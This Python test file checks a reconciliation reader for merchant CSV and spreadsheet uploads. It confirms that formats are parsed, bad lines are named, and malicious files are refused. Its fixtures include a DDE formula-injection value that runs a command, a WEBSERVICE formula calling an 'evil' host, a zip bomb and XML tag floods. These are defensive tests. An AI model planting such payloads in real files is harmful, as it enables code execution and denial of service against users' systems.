"""A merchant's own file: every way to write it is read, and a bad line is named, never run."""

from __future__ import annotations

import io
import zipfile
from decimal import Decimal

import pytest
import xlsxwriter

from handlers import reconcile_file, spreadsheet
from handlers.reconcile_file import Limits, Unreadable
from models.settlement.reconciling import Bad, Theirs

LIMITS = Limits(bytes=100_000, lines=50)
GOOD = "流水号,券名,金额（元）\r\n100000011,剪发券,34.01\r\n100000012,剪发券,-34.0085\r\n"
READ = [Theirs(2, 100000011, 340_100), Theirs(3, 100000012, -340_085)]


def _read(content: bytes, limits: Limits = LIMITS) -> list[Theirs | Bad]:
    return list(reconcile_file.read(io.BytesIO(content), limits))


@pytest.mark.parametrize(
    "content",
    [
        GOOD.encode(),
        GOOD.encode("utf-8-sig"),
        GOOD.encode("gbk"),
        GOOD.replace(",", "\t").encode(),
        GOOD.replace("34.01", '"¥34.01"').encode(),
        GOOD.replace("金额（元）", "Amount (yuan)").replace("流水号", "Serial no").encode(),
        GOOD.replace("（元）", "（分）")
        .replace("34.01", "3401")
        .replace("34.0085", "3400.85")
        .encode(),
    ],
)
def test_a_file_is_read_in_every_way_that_people_save_it(content: bytes) -> None:
    assert _read(content) == READ


def test_lines_before_the_head_and_empty_ones_are_passed_over() -> None:
    assert _read(b"a title\r\n\r\n" + GOOD.encode() + b"\r\n,,\r\n") == [
        Theirs(4, 100000011, 340_100), Theirs(5, 100000012, -340_085)
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("=1+1,x,1", "no_serial"), ("合计,x,1", "no_serial"), ("0,x,1", "no_serial"),
        ("1E+8,x,1", "no_serial"), ("9223372036854775808,x,1", "no_serial"),
        ("1,x,=cmd|' /C calc'!A0", "no_amount"), ("1,x,1e9", "no_amount"), ("1,x,NaN", "no_amount"),
        ("1,x,", "no_amount"), ("1,x,1.23456", "too_fine"), ("1,x", "too_short"),
        ("٣,x,1", "no_serial"), ("1,x,999999999999999", "no_amount"),
    ],
)  # fmt: skip
def test_a_line_that_makes_no_sense_is_named_with_its_number_and_its_reason(
    line: str, why: str
) -> None:
    assert _read(f"{GOOD}{line}\r\n".encode())[-1] == Bad(4, why)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "空的"),
        (b"a,b\r\n1,2\r\n", "表头"),
        ("流水号,金额\r\n1,2\r\n".encode(), "单位"),
        (GOOD.encode("utf-16"), "UTF-8"),
        (b"PK\x03\x04 nonsense", "打不开"),
        (GOOD.encode() + b'"' + b"x" * 80_000 + b"x" * 60_000, "太大|引号"),
        (GOOD.encode() + b"1,x,1\r\n" * 50, "行数太多"),
        (b"\x00" * 50, "CSV"),
    ],
)
def test_a_file_that_cannot_be_compared_is_refused_in_words(content: bytes, words: str) -> None:
    with pytest.raises(Unreadable, match=words):
        _read(content)


def test_a_quotation_mark_that_never_ends_is_no_defect_of_ours() -> None:
    with pytest.raises(Unreadable, match="引号"):
        _read(GOOD.encode() + b'"' + b"x" * 140_000, Limits(1_000_000, 50))


def _book(*rows: tuple[object, ...]) -> bytes:
    stream = io.BytesIO()
    book = xlsxwriter.Workbook(stream)
    sheet = book.add_worksheet()
    for number, row in enumerate(rows):
        for column, cell in enumerate(row):
            sheet.write(number, column, cell)
    book.close()
    return stream.getvalue()


def test_a_spreadsheet_is_read_and_its_formulas_are_not_run() -> None:
    content = _book(
        ("流水号", "金额（元）"), ("100000011", 34.01), (100000012, Decimal("-34.0085")),
        ("=100000000+13", 1), (5, '=WEBSERVICE("http://evil/")'),
    )  # fmt: skip
    found = _read(content)
    assert found[:2] == READ
    # The value a formula was saved with is what counts: 0, where no program has reckoned it.
    assert found[2:] == [Bad(4, "no_serial"), Theirs(5, 5, 0)]


def _sheet(rows: str) -> bytes:
    """A book of this head whose other rows are written by hand."""
    stream = io.BytesIO(_book(("流水号", "金额（元）")))
    out = io.BytesIO()
    with zipfile.ZipFile(stream) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                part = part.replace(b"</sheetData>", rows.encode() + b"</sheetData>")
            new.writestr(name, part)
    return out.getvalue()


@pytest.mark.parametrize("rows", ['<row r="2">' + "<c/>" * 200_000 + "</row>", "<row/>" * 200_000])
def test_a_small_file_with_many_tags_is_refused_before_they_are_read(
    rows: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "load_workbook", None)
    with pytest.raises(Unreadable, match="解开"):
        _read(_sheet(rows))


def test_a_gap_of_a_million_rows_or_lines_costs_next_to_nothing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    looked_at: list[object] = []

    def counted(cell: object) -> spreadsheet.Cell:
        looked_at.append(cell)
        return spreadsheet.Cell("1")

    monkeypatch.setattr(spreadsheet, "_cell", counted)
    limits = Limits(1_000_000, 50_000)
    far = _sheet('<row r="999999999"><c r="A999999999"><v>1</v></c></row>')
    with pytest.raises(Unreadable, match="表头"):
        _read(far, limits)
    assert len(looked_at) <= spreadsheet.COLUMNS_MAX
    with pytest.raises(Unreadable, match="行数太多"):
        _read(GOOD.encode() + b"\n" * 900_000, limits)
    monkeypatch.setattr(reconcile_file, "_text", lambda cell: counted(cell).text)
    with pytest.raises(Unreadable, match="表头"):
        _read(b"," * 900_000, limits)
    assert len(looked_at) <= 2 * spreadsheet.COLUMNS_MAX


def test_a_zip_that_grows_without_end_is_refused() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 40_000_000)
    with pytest.raises(Unreadable, match="解开"):
        _read(stream.getvalue())
